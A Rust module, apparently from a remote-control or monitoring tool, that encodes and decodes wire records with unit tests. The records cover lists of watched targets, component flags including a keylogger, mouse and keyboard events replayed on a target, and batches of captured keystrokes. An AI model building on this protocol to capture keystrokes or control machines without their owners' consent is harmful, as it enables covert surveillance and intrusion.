//! Structured payloads exchanged after admission.
//!
//! Every decoder here is bounds-checked and rejects trailing bytes; peer input
//! is only ever parsed, never interpreted.

use bytes::{Buf, BufMut, Bytes, BytesMut};
use thiserror::Error;

use crate::codes::{CodeError, ControlDevice, DeviceEvent, MouseButton};
use crate::AccessCode;

#[derive(Debug, Error, PartialEq)]
pub enum RecordError {
    #[error("record truncated: needed {needed} more bytes")]
    Truncated { needed: usize },
    #[error("record has {0} trailing bytes")]
    Trailing(usize),
    #[error(transparent)]
    Code(#[from] CodeError),
    #[error("access code is not valid utf-8")]
    InvalidCode,
    #[error("{0} does not fit the record")]
    TooLong(&'static str),
    #[error("event {0:?} is not valid for this device")]
    WrongDevice(DeviceEvent),
    #[error("pointer coordinate {0} is outside 0..=1")]
    Coordinate(f32),
    #[error("key batch has an odd number of fields ({0})")]
    OddKeyBatch(usize),
    #[error("key batch field of {0} bytes is wider than 4 bytes")]
    WideKeyField(usize),
    #[error("value {0} cannot be written into a null-delimited key batch")]
    UnencodableKey(u32),
}

fn ensure(buf: &impl Buf, needed: usize) -> Result<(), RecordError> {
    if buf.remaining() < needed {
        return Err(RecordError::Truncated {
            needed: needed - buf.remaining(),
        });
    }
    Ok(())
}

fn finish(buf: &impl Buf) -> Result<(), RecordError> {
    match buf.remaining() {
        0 => Ok(()),
        extra => Err(RecordError::Trailing(extra)),
    }
}

/// Codes of the targets currently available for watching.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TargetList(pub Vec<AccessCode>);

impl TargetList {
    pub fn encode(&self) -> Result<Bytes, RecordError> {
        let count = u16::try_from(self.0.len()).map_err(|_| RecordError::TooLong("target count"))?;
        let mut buf = BytesMut::new();
        buf.put_u16(count);
        for code in &self.0 {
            let len =
                u16::try_from(code.as_str().len()).map_err(|_| RecordError::TooLong("access code"))?;
            buf.put_u16(len);
            buf.put_slice(code.as_str().as_bytes());
        }
        Ok(buf.freeze())
    }

    pub fn decode(mut payload: &[u8]) -> Result<Self, RecordError> {
        ensure(&payload, 2)?;
        let count = payload.get_u16() as usize;
        let mut codes = Vec::with_capacity(count.min(1024));
        for _ in 0..count {
            ensure(&payload, 2)?;
            let len = payload.get_u16() as usize;
            ensure(&payload, len)?;
            let code = std::str::from_utf8(&payload[..len]).map_err(|_| RecordError::InvalidCode)?;
            codes.push(AccessCode::from(code));
            payload.advance(len);
        }
        finish(&payload)?;
        Ok(TargetList(codes))
    }
}

/// Which parts of a target are currently bound on the server.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ComponentPresence {
    pub primary: bool,
    pub screen_reader: bool,
    pub controller: bool,
    pub keylogger: bool,
}

impl ComponentPresence {
    pub fn encode(&self) -> Bytes {
        Bytes::copy_from_slice(&[
            self.primary as u8,
            self.screen_reader as u8,
            self.controller as u8,
            self.keylogger as u8,
        ])
    }

    pub fn decode(payload: &[u8]) -> Result<Self, RecordError> {
        let flags = match payload {
            [a, b, c, d] => [*a, *b, *c, *d],
            short if short.len() < 4 => {
                return Err(RecordError::Truncated {
                    needed: 4 - short.len(),
                })
            }
            long => return Err(RecordError::Trailing(long.len() - 4)),
        };
        Ok(ComponentPresence {
            primary: flags[0] != 0,
            screen_reader: flags[1] != 0,
            controller: flags[2] != 0,
            keylogger: flags[3] != 0,
        })
    }
}

/// One input event a watcher wants replayed on the target.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum ControlEvent {
    Mouse {
        event: DeviceEvent,
        button: MouseButton,
        /// Pointer position relative to the screen, both axes in `0..=1`.
        x: f32,
        y: f32,
    },
    Keyboard {
        event: DeviceEvent,
        vk: u32,
    },
}

impl ControlEvent {
    pub fn device(&self) -> ControlDevice {
        match self {
            ControlEvent::Mouse { .. } => ControlDevice::Mouse,
            ControlEvent::Keyboard { .. } => ControlDevice::Keyboard,
        }
    }

    pub fn encode(&self) -> Bytes {
        let mut buf = BytesMut::with_capacity(11);
        buf.put_u8(self.device() as u8);
        match *self {
            ControlEvent::Mouse {
                event,
                button,
                x,
                y,
            } => {
                buf.put_u8(event as u8);
                buf.put_u8(button as u8);
                buf.put_f32(x);
                buf.put_f32(y);
            }
            ControlEvent::Keyboard { event, vk } => {
                buf.put_u8(event as u8);
                buf.put_u32(vk);
            }
        }
        buf.freeze()
    }

    pub fn decode(mut payload: &[u8]) -> Result<Self, RecordError> {
        ensure(&payload, 2)?;
        let device = ControlDevice::try_from(payload.get_u8())?;
        let event = DeviceEvent::try_from(payload.get_u8())?;
        let decoded = match device {
            ControlDevice::Mouse => {
                if !event.is_mouse() {
                    return Err(RecordError::WrongDevice(event));
                }
                ensure(&payload, 9)?;
                let button = MouseButton::try_from(payload.get_u8())?;
                let x = coordinate(payload.get_f32())?;
                let y = coordinate(payload.get_f32())?;
                ControlEvent::Mouse {
                    event,
                    button,
                    x,
                    y,
                }
            }
            ControlDevice::Keyboard => {
                if !event.is_key() {
                    return Err(RecordError::WrongDevice(event));
                }
                ensure(&payload, 4)?;
                ControlEvent::Keyboard {
                    event,
                    vk: payload.get_u32(),
                }
            }
        };
        finish(&payload)?;
        Ok(decoded)
    }
}

fn coordinate(value: f32) -> Result<f32, RecordError> {
    if value.is_finite() && (0.0..=1.0).contains(&value) {
        Ok(value)
    } else {
        Err(RecordError::Coordinate(value))
    }
}

/// A key press or release observed on the target.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct KeyEvent {
    pub event: DeviceEvent,
    pub vk: u32,
}

/// Batch of key events as captured by a target keylogger.
///
/// The layout is null-byte-delimited minimal big-endian integers alternating
/// between event type and virtual key code. An empty field reads as zero.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct KeyBatch(pub Vec<KeyEvent>);

impl KeyBatch {
    pub fn encode(&self) -> Result<Bytes, RecordError> {
        let mut buf = BytesMut::new();
        let fields = self
            .0
            .iter()
            .flat_map(|key| [key.event as u32, key.vk]);
        for (i, value) in fields.enumerate() {
            if i > 0 {
                buf.put_u8(0);
            }
            let bytes = value.to_be_bytes();
            let start = bytes.iter().position(|b| *b != 0).unwrap_or(bytes.len());
            let digits = &bytes[start..];
            if digits.contains(&0) {
                return Err(RecordError::UnencodableKey(value));
            }
            buf.put_slice(digits);
        }
        Ok(buf.freeze())
    }

    pub fn decode(payload: &[u8]) -> Result<Self, RecordError> {
        if payload.is_empty() {
            return Ok(KeyBatch::default());
        }
        let fields = payload
            .split(|b| *b == 0)
            .map(|field| {
                if field.len() > 4 {
                    return Err(RecordError::WideKeyField(field.len()));
                }
                Ok(field.iter().fold(0u32, |acc, b| (acc << 8) | *b as u32))
            })
            .collect::<Result<Vec<_>, _>>()?;
        if fields.len() % 2 != 0 {
            return Err(RecordError::OddKeyBatch(fields.len()));
        }

        let mut keys = Vec::with_capacity(fields.len() / 2);
        for pair in fields.chunks_exact(2) {
            let raw = u8::try_from(pair[0]).map_err(|_| CodeError {
                kind: "device event",
                value: 0xff,
            })?;
            let event = DeviceEvent::try_from(raw)?;
            if !event.is_key() {
                return Err(RecordError::WrongDevice(event));
            }
            keys.push(KeyEvent { event, vk: pair[1] });
        }
        Ok(KeyBatch(keys))
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn target_list_layout_is_length_prefixed() {
        let list = TargetList(vec![AccessCode::from("ABC123"), AccessCode::from("Q")]);
        let bytes = list.encode().unwrap();
        assert_eq!(
            bytes.as_ref(),
            &[0, 2, 0, 6, b'A', b'B', b'C', b'1', b'2', b'3', 0, 1, b'Q']
        );
        assert_eq!(TargetList::decode(&bytes).unwrap(), list);
        assert_eq!(TargetList::decode(&[0, 0]).unwrap(), TargetList::default());
    }

    #[test]
    fn target_list_rejects_truncation_and_trailing_bytes() {
        assert!(matches!(
            TargetList::decode(&[0, 1, 0, 5, b'A']),
            Err(RecordError::Truncated { needed: 4 })
        ));
        assert_eq!(TargetList::decode(&[0, 0, 9]), Err(RecordError::Trailing(1)));
        assert_eq!(
            TargetList::decode(&[0, 1, 0, 1, 0xff]),
            Err(RecordError::InvalidCode)
        );
    }

    #[test]
    fn component_presence_is_four_flags() {
        let presence = ComponentPresence {
            primary: true,
            screen_reader: false,
            controller: true,
            keylogger: false,
        };
        assert_eq!(presence.encode().as_ref(), &[1, 0, 1, 0]);
        assert_eq!(ComponentPresence::decode(&[1, 0, 1, 0]).unwrap(), presence);
        assert!(ComponentPresence::decode(&[1, 0]).is_err());
        assert!(ComponentPresence::decode(&[1, 0, 0, 0, 0]).is_err());
    }

    #[test]
    fn control_events_decode_with_bounds_checks() {
        let click = ControlEvent::Mouse {
            event: DeviceEvent::MouseDown,
            button: MouseButton::Right,
            x: 0.25,
            y: 1.0,
        };
        assert_eq!(ControlEvent::decode(&click.encode()).unwrap(), click);

        let key = ControlEvent::Keyboard {
            event: DeviceEvent::KeyUp,
            vk: 0xffbe,
        };
        let bytes = key.encode();
        assert_eq!(bytes.as_ref(), &[0x01, 0x10, 0x00, 0x00, 0xff, 0xbe]);
        assert_eq!(ControlEvent::decode(&bytes).unwrap(), key);

        assert!(ControlEvent::decode(&bytes[..4]).is_err());
        let mut trailing = bytes.to_vec();
        trailing.push(0);
        assert_eq!(ControlEvent::decode(&trailing), Err(RecordError::Trailing(1)));
    }

    #[test]
    fn control_events_reject_mismatched_or_wild_values() {
        // keyboard device with a mouse event
        assert_eq!(
            ControlEvent::decode(&[0x01, 0x02, 0, 0, 0, 1]),
            Err(RecordError::WrongDevice(DeviceEvent::MouseMove))
        );

        let mut wild = BytesMut::new();
        wild.put_u8(0x00);
        wild.put_u8(0x02);
        wild.put_u8(0x00);
        wild.put_f32(f32::NAN);
        wild.put_f32(0.5);
        assert!(matches!(
            ControlEvent::decode(&wild),
            Err(RecordError::Coordinate(_))
        ));
    }

    #[test]
    fn key_batch_matches_null_delimited_layout() {
        let batch = KeyBatch(vec![
            KeyEvent {
                event: DeviceEvent::KeyDown,
                vk: 65,
            },
            KeyEvent {
                event: DeviceEvent::KeyUp,
                vk: 0x1234,
            },
        ]);
        let bytes = batch.encode().unwrap();
        assert_eq!(bytes.as_ref(), &[0x11, 0, 65, 0, 0x10, 0, 0x12, 0x34]);
        assert_eq!(KeyBatch::decode(&bytes).unwrap(), batch);
        assert_eq!(KeyBatch::decode(b"").unwrap(), KeyBatch::default());
    }

    #[test]
    fn key_batch_rejects_ambiguous_input() {
        assert_eq!(KeyBatch::decode(&[0x11]), Err(RecordError::OddKeyBatch(1)));
        assert_eq!(
            KeyBatch::decode(&[0x11, 0, 1, 2, 3, 4, 5]),
            Err(RecordError::WideKeyField(5))
        );
        assert_eq!(
            KeyBatch::decode(&[0x01, 0, 65]),
            Err(RecordError::WrongDevice(DeviceEvent::MouseDown))
        );
        let zero_inside = KeyBatch(vec![KeyEvent {
            event: DeviceEvent::KeyDown,
            vk: 0x0100,
        }]);
        assert_eq!(zero_inside.encode(), Err(RecordError::UnencodableKey(0x0100)));
    }
}
